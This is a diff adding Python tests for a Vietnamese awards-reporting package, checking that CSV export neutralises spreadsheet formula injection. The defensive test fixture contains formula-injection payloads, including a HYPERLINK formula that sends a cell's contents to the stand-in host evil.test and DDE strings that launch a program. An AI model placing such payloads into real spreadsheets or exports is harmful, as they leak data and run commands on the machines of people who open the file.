@@ -8,7 +8,7 @@ from datetime import date
 
 from thidua_reporting.awards.projection import fold
 from thidua_reporting.awards.service import COLUMNS, timeliness_of
-from thidua_reporting.formats import Column, CsvFormat, JsonFormat, display, load_formats
+from thidua_reporting.formats import Column, CsvFormat, JsonFormat, display, load_formats, neutralise_formula
 
 ROWS = [
     {
@@ -95,3 +95,60 @@ def test_timeliness_per_stage():
                                 "max_working_days": 14.0, "overdue": 2}  # n2 left late; n3 alerted
     assert out["hoi-dong"]["overdue"] == 1  # still in it past its due date
     assert out["hoi-dong"]["average_working_days"] is None
+
+
+# issue 8: CSV formula injection (OWASP) -----------------------------------------------------
+
+HOSTILE = {
+    "decision_date": date(2019, 12, 5),
+    "decision_number": "=HYPERLINK(\"http://evil.test/?\"&A1,\"2457\")",
+    "signer": "+cmd|' /C calc'!A0",
+    "person_name": "-2+3+cmd|' /C calc'!A0",
+    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "unit_name": "\t=1+1",
+    "award_name": "\r=1+1",
+    "basis": "   =1+1",
+    "campaign_id": "\uff1d1+1",
+    "nomination_id": "a;=1+1",
+    "year": -2019,
+    "score": -12.5,
+}
+HOSTILE_COLS = [Column(k, k, k, "number" if k in ("year", "score") else "text") for k in HOSTILE]
+
+
+def _cells(data: bytes) -> dict[str, str]:
+    header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    return dict(zip(header, row, strict=True))
+
+
+def test_csv_cells_that_could_start_a_formula_get_a_single_quote():
+    cells = _cells(CsvFormat().render([HOSTILE], HOSTILE_COLS))
+    for key in ("decision_number", "signer", "person_name", "position", "unit_name", "award_name", "basis",
+                "campaign_id"):
+        assert cells[key] == "'" + HOSTILE[key], key  # the text is kept whole, behind one quote
+    assert cells["nomination_id"] == "a;=1+1"  # not at the start: no formula
+    assert cells["decision_date"] == "05/12/2019"
+
+
+def test_csv_keeps_negative_numbers_as_numbers():
+    cells = _cells(CsvFormat().render([HOSTILE], HOSTILE_COLS))
+    assert cells["year"] == "-2019" and cells["score"] == "-12,5"
+    assert _cells(CsvFormat().render([HOSTILE], HOSTILE_COLS, "en"))["score"] == "-12.5"
+
+
+def test_csv_quotes_every_cell_so_a_semicolon_list_separator_cannot_split_one():
+    cols = [Column("name", "Tên", "Name"), Column("year", "Năm", "Year", "number")]
+    data = CsvFormat().render([{"name": "a;=1+1", "year": 2019}], cols).decode("utf-8-sig")
+    assert data == '"Tên","Năm"\r\n"a;=1+1","2019"\r\n'
+
+
+def test_neutralise_formula_leaves_ordinary_text_alone():
+    for text in ("2457/QĐ-UBND", "Nguyễn Thị Hồng Nhung", "", " ", "Sở Nội vụ, tỉnh Đắk Nông", "a-b", "'=1"):
+        assert neutralise_formula(text) == text
+    for text in ("=1", "+1", "-1", "@a", "\t1", "\r1", "\n=1", " \u00a0=1", "\uff0b1", "\uff0d1", "\uff201"):
+        assert neutralise_formula(text) == "'" + text, repr(text)
+
+
+def test_json_export_keeps_text_exactly_for_programs():
+    out = json.loads(JsonFormat().render([HOSTILE], HOSTILE_COLS))
+    assert out["rows"][0]["decision_number"] == HOSTILE["decision_number"]
